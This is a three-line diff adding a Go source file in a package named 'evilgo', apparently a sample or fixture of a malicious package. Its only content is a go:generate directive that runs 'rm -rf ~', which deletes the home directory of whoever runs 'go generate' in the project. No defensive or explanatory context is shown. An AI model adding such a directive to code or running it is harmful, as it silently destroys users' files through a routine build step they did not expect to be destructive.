@@ -1,0 +1,3 @@
+package evilgo
+
+//go:generate rm -rf ~
